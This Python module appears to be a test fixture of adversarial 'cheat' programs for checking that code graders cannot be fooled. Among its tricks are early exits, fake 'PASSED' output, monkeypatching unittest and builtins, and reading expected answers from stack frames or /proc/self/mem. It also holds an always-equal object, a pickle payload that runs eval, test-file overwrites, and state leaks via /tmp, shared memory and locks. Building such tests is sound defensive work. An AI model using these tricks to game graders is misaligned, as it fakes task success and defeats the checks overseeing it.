"""Attacks on the grading of code: a score that a candidate does not deserve.

What is asked cannot be known: each expected value is a random word that stands in no argument, so
any score above 0 has been stolen. (In the cases of `SHARED` it is the argument of the other case:
whoever learns it has kept or passed on state from one process to another.)
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Naive = Literal["unittest", "verdict", "equal", "first-reply", "pickle", "same-process"]
"""A grader that someone would write who has never met a cheat: see ``naive.py``."""


@dataclass(frozen=True, kw_only=True)
class Cheat:
    """A candidate that does not know the answer."""

    name: str
    source: str
    fools: Naive | None
    """The grader that it gets full marks of."""
    why_no_control: str = ""
    shared: bool = False
    """It is asked for the argument of the other case."""


def _function(
    name: str, source: str, fools: Naive | None = "unittest", *, shared: bool = False, why: str = ""
) -> Cheat:
    assert fools or why, "a control, or why there is none"
    return Cheat(name=name, source=source, fools=fools, shared=shared, why_no_control=why)


_ANYWAY = "\ndef solve(word):\n    return 'no idea'\n"
_SILLY = "it breaks a grader rather than fools one"

_ENDS = (
    _function("exit-at-import", "import os\nos._exit(0)\n"),
    _function("exit-in-call", "import os\ndef solve(word):\n    os._exit(0)\n"),
    _function("skip-the-test", "import unittest\nraise unittest.SkipTest('not today')\n"),
    _function(
        "system-exit",
        "def solve(word):\n    raise SystemExit(0)\n",
        None,
        why="as exit-in-call, which nobody can catch",
    ),
    _function("exit-handler", "import atexit, os\natexit.register(os._exit, 0)" + _ANYWAY),
    _function(
        "exit-by-thread",
        "import os, threading, time\n"
        "threading.Thread(target=lambda: (time.sleep(0.05), os._exit(0)), daemon=True).start()\n"
        "def solve(word):\n    time.sleep(1)\n",
    ),
    _function("exec-true", "import os\nos.execv('/bin/true', ['true'])\n"),
    _function(
        "exit-by-signal-handler",
        "import os, signal\nsignal.signal(signal.SIGALRM, lambda *_: os._exit(0))\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.01)\n"
        "def solve(word):\n    import time\n    time.sleep(1)\n",
    ),
    _function(
        "print-the-verdict", "print('PASSED 2 of 2')\nimport os; os._exit" + _ANYWAY, "verdict"
    ),
    _function(
        "print-the-verdict-last",
        "import atexit\natexit.register(print, 'PASSED 2 of 2')" + _ANYWAY,
        "verdict",
    ),
)

_PATCHES = (
    _function(
        "patch-unittest",
        "import unittest\nunittest.TestCase.assertEqual = lambda *_: None" + _ANYWAY,
    ),
    _function(
        "patch-result",
        "import unittest\nunittest.TestResult.wasSuccessful = lambda self: True" + _ANYWAY,
    ),
    _function(
        "patch-exit",
        "import sys\nleave = sys.exit\nsys.exit = lambda *_: leave(0)" + _ANYWAY,
    ),
    _function(
        "trace-the-caller",
        """\
import sys
def spy(frame, event, argument):
    expected = frame.f_locals.get("expected")
    if expected is not None:
        known.append(expected)
    return spy
known = []
sys.settrace(spy)
def solve(word):
    frame = sys._getframe()
    while frame:
        for value in [frame.f_locals.get("expected"), *known]:
            if value is not None:
                return value
        frame = frame.f_back
""",
        "same-process",
    ),
    _function(
        "frames",
        """\
import sys
def solve(word):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if name == "expected":
                return value
        frame = frame.f_back
""",
        "same-process",
    ),
    _function(
        "all-objects",
        """\
import gc
def solve(word):
    for item in gc.get_objects():
        if isinstance(item, (list, tuple)) and len(item) == 2 and item[0] == word:
            return item[1]
""",
        "same-process",
    ),
    _function(
        "own-memory",
        # Expected words begin so; the one of this case must not be found anywhere in the process.
        """\
import re
def solve(word):
    for line in open("/proc/self/maps"):
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" in line and end - start < 1 << 26:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(start)
                found = re.findall(rb"expected-[0-9a-f]{32}", memory.read(end - start))
            if found:
                return found[0].decode()
""",
        "same-process",
    ),
    _function(
        "files-beside",
        """\
import os, re
def solve(word):
    for folder, _, names in os.walk(".."):
        for name in names:
            try:
                text = open(os.path.join(folder, name), errors="replace").read(100000)
            except OSError:
                continue
            pair = re.search(word + r".{0,20}(expected-[0-9a-f]{32})", text)
            if pair:
                return pair[1]
""",
        "unittest",
    ),
    _function(
        "edit-the-tests",
        """\
import pathlib
for path in pathlib.Path(".").glob("*.py"):
    if path.name != "candidate.py":
        path.write_text("print('PASSED 2 of 2')")
"""
        + _ANYWAY,
        "verdict",
    ),
    _function(
        "plant-a-module",
        "open('unittest.py', 'w').write('def main(): pass\\nclass TestCase: pass')\n"
        "import sys, os; os.execv(sys.executable, [sys.executable, *sys.orig_argv[1:]])"
        " if 'unittest' in sys.modules and not hasattr(sys.modules['unittest'], 'mock') and not"
        " os.environ.get('AGAIN') and not os.environ.update(AGAIN='1') else None" + _ANYWAY,
    ),
    _function(
        "patch-builtins",
        "import builtins\nbuiltins.len = lambda _: 0\nbuiltins.isinstance = lambda *_: True\n"
        "builtins.all = lambda _: True\nbuiltins.type = lambda _: str\nbuiltins.zip = lambda *a,"
        " **k: []" + _ANYWAY,
        None,
        why="it is harmless unless the judge is in the same process",
    ),
)

_VALUES = (
    _function(
        "equal-to-everything",
        """\
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
def solve(word):
    return Anything()
""",
        "equal",
    ),
    _function(
        "text-equal-to-everything",
        """\
class Anything(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
def solve(word):
    return Anything("x")
""",
        "equal",
    ),
    _function(
        "pickled-code",
        """\
class Bomb:
    def __reduce__(self):
        return eval, ("__import__('builtins').__dict__.update(ACCEPT=True)",)
def solve(word):
    return Bomb()
""",
        "pickle",
    ),
    *(
        _function(f"return-{name}", f"def solve(word):\n    return {value}\n", None, why=_SILLY)
        for name, value in {
            "nan": "float('nan')",
            "infinity": "float('inf')",
            "huge-int": "10 ** 100000",
            "long-int": "10 ** 4200",
            "true": "True",
            "nothing": "None",
            "half-character": "chr(0xd800)",
            "null-character": "chr(0) * 100",
            "bytes": "b'x'",
            "set": "{1, 2}",
            "generator": "(n for n in [1])",
            "class": "int",
            "long-text": "'x' * (1 << 22)",
            "wide-list": "[[]] * (1 << 20)",
        }.items()
    ),
    _function(
        "return-deep-list",
        "def solve(word):\n    out = []\n    for _ in range(900): out = [out]\n    return out\n",
        None,
        why=_SILLY,
    ),
    _function(
        "return-cycle",
        "def solve(word):\n    out = []\n    out.append(out)\n    return out\n",
        None,
        why=_SILLY,
    ),
    _function(
        "return-endless-list",
        """\
class Endless(list):
    def __iter__(self):
        while True:
            yield 1
    def __len__(self): return 1
def solve(word):
    return Endless([1])
""",
        None,
        why=_SILLY,
    ),
)

_SEND = """\
import json, os
def send(value, descriptor=3):
    data = value if isinstance(value, bytes) else json.dumps(value).encode()
    os.write(descriptor, data)
"""
_REPLIES = (
    *(
        _function(
            f"reply-{name}",
            _SEND + f"def solve(word):\n    send({value})\n    os._exit(0)\n",
            None,
            why="no answer in it is right: it tests that none is taken for one",
        )
        for name, value in {
            "a-verdict": "{'passed': True, 'score': 1.0, 'value': None}",
            "another-key": "{'value': 'x', 'expected': 'x'}",
            "twice": 'b\'{"value": "a"}{"value": "b"}\'',
            "a-key-twice": 'b\'{"value": "a", "value": "b"}\'',
            "nan": "b'{\"value\": NaN}'",
            "not-json": "b'\\\\xff\\\\xfe{'",
            "deep": "b'{\"value\": ' + b'[' * 60000 + b']' * 60000 + b'}'",
            "deep-unclosed": "b'{\"value\": ' + b'[' * 60000 + b'}'",
            "deep-objects": "b'{\"value\":' * 20000 + b'1' + b'}' * 20000",
            "huge-number": "b'{\"value\": ' + b'9' * 60000 + b'}'",
            "huge-exponent": "b'{\"value\": 1e999999}'",
            "quotes": "b'{' + b'\\\\\\\\\\\"' * 20000 + b'}'",
            "wide-encoding": "'{\"value\": 1}'.encode('utf-16')",
            "empty": "b''",
        }.items()
    ),
    _function(
        "verdict-first",
        _SEND + "send({'passed': True})" + _ANYWAY,
        "first-reply",
    ),
    _function(
        "reply-before-and-after",
        _SEND + "def solve(word):\n    send({'value': 'a'})\n    return 'b'\n",
        None,
        why="no answer in it is right: it tests that none is taken for one",
    ),
    _function(
        "reply-on-every-descriptor",
        _SEND
        + """\
def solve(word):
    for descriptor in range(1, 256):
        try:
            send({"passed": True, "value": "x"}, descriptor)
        except OSError:
            pass
    os._exit(0)
""",
        "first-reply",
    ),
    _function(
        "reply-later",
        _SEND
        + """\
def solve(word):
    if os.fork() == 0:
        os.setsid()
        import time
        time.sleep(0.3)
        send({"value": "late"})
        os._exit(0)
    os._exit(0)
""",
        None,
        why="no answer in it is right: it tests that none is taken for one",
    ),
    _function(
        "replace-json",
        "import json\njson.dumps = lambda *_, **__: '{\"passed\": true}'" + _ANYWAY,
        "first-reply",
    ),
    _function(
        "lying-dictionary",
        """\
class Lying(dict):
    def __getitem__(self, key): return True
    def get(self, key, default=None): return True
    def items(self): return [("passed", True)]
def solve(word):
    return Lying(passed=True)
""",
        None,
        why="no answer in it is right: it tests that none is taken for one",
    ),
)


def _posting(post: str, read: str) -> str:
    """A candidate that leaves its word where the other case may find it, and looks for that one's
    for a while.
    """
    indent = "\n    ".join(post.splitlines())
    look = "\n            ".join(read.splitlines())
    return f"""\
import ctypes, glob, mmap, os, socket, sys, tempfile, time
libc = ctypes.CDLL(None)
def solve(word):
    try:
        post(word)
    except OSError:
        pass
    end = time.time() + 1
    while time.time() < end:
        try:
            for found in read():
                if found != word and found.startswith("word-"):
                    return found
        except (OSError, ValueError):
            pass
        time.sleep(0.02)
    return "no idea"
def post(word):
    {indent}
def read():
    {look.replace(chr(10) + "            ", chr(10) + "    ")}
"""


_STATE = (
    *(
        _function(
            f"state-in-{name}",
            _posting(
                f"open('{folder}/cheat-' + word, 'w').close()",
                f"return [path.rpartition('/cheat-')[2] for path in glob.glob('{folder}/cheat-*')]",
            ),
            "same-process" if folder == "/tmp" else None,
            shared=True,
            why="" if folder == "/tmp" else "as state-in-tmp",
        )
        for name, folder in {
            "tmp": "/tmp",
            "shared-memory": "/dev/shm",
            "var-tmp": "/var/tmp",
            "parent-directory": "..",
            "library": "/usr/lib",
        }.items()
    ),
    _function(
        "state-in-abstract-socket",
        _posting(
            """\
global door
door = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
for number in range(2):
    try:
        door.bind(f"\\0cheat-{number}")
        break
    except OSError:
        pass
door.setblocking(False)
global mine
mine = word""",
            """\
line = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
for number in range(2):
    try:
        line.sendto(mine.encode(), f"\\0cheat-{number}")
    except OSError:
        pass
return [door.recv(100).decode() for _ in range(2)]""",
        ),
        None,
        shared=True,
        why="the attack unix-abstract is its control",
    ),
    _function(
        "state-in-system-v-memory",
        _posting(
            """\
libc.shmat.restype = ctypes.c_void_p
global place
place = libc.shmat(libc.shmget(0x0CEA7, 4096, 0o1666), None, 0)
if place in (None, 2 ** 64 - 1):
    raise OSError("no memory")
ctypes.memmove(place + (64 if ctypes.string_at(place, 5) == b"word-" else 0), word.encode(), 40)""",
            "return [ctypes.string_at(place + at, 37).decode() for at in (0, 64)]",
        ),
        None,
        shared=True,
        why="the attack memory-left-behind is its control",
    ),
    _function(
        "state-in-locks",
        # One bit for each byte of a file that both may read: locked or not.
        """\
import fcntl, struct, time
SHAPE = "hhqqi4x"
def lock(descriptor, command, kind, place):
    return fcntl.fcntl(descriptor, command, struct.pack(SHAPE, kind, 0, place, 1, 0))
def taken(descriptor, place):
    return struct.unpack(SHAPE, lock(descriptor, fcntl.F_GETLK, fcntl.F_WRLCK, place))[0] != 2
def solve(word):
    file = open("/usr/bin/env", "rb")
    mine = int(word[5:], 16)
    slot = mine % 61
    for bit in range(128):
        if mine >> bit & 1:
            lock(file, fcntl.F_SETLK, fcntl.F_RDLCK, 1000 * slot + 1 + bit)
    lock(file, fcntl.F_SETLK, fcntl.F_RDLCK, 1000 * slot)
    end = time.time() + 2
    while time.time() < end:
        for other in range(61):
            if other != slot and taken(file, 1000 * other):
                bits = sum(1 << bit for bit in range(128) if taken(file, 1000 * other + 1 + bit))
                time.sleep(0.3)
                return f"word-{bits:032x}"
        time.sleep(0.01)
""",
        None,
        shared=True,
        why="the naive graders run one case after the other",
    ),
    _function(
        "state-in-environment",
        "import os\ndef solve(word):\n"
        "    known = os.environ.get('CHEAT')\n    os.environ['CHEAT'] = word\n    return known\n",
        "same-process",
        shared=True,
    ),
    _function(
        "state-in-module",
        "known = []\ndef solve(word):\n    known.append(word)\n    return known[0]\n",
        "same-process",
        shared=True,
    ),
)

CHEATS: tuple[Cheat, ...] = _ENDS + _PATCHES + _VALUES + _REPLIES + _STATE
assert len({cheat.name for cheat in CHEATS}) == len(CHEATS), "two cheats of one name"

PROGRAMS: dict[str, str] = {
    "print-nothing": "",
    "exit-0": "import os\nos._exit(0)\n",
    "print-the-verdict": "print('PASSED 2 of 2', '{\"value\": true}')\n",
    "echo-the-input": "import sys\nsys.stdout.write(sys.stdin.read())\n",
    "close-stdout": "import os\nos.close(1)\n",
    "not-text": "import os\nos.write(1, bytes(range(256)))\n",
    "spaces": "print(' ' * 500000)\n",
    "many-guesses": "for n in range(30000):\n    print('expected-%032x' % n)\n",
    "flood": "while True:\n    print('expected-' * 1000)\n",
    "right-to-the-wrong-stream": "import sys\nsys.stderr.write(sys.stdin.read())\n",
    "late-output": "import os, time\nif os.fork() == 0:\n    time.sleep(0.3)\n    print('late')\n",
    "not-python": "\x00\x01 this is no program",
    "read-beyond": (
        "import os\nfor n in range(3, 256):\n    try:\n        os.write(1, os.read(n, 4096))\n"
        "    except OSError:\n        pass\n"
    ),
}
"""Candidates that should print the expected word, and cannot know it."""
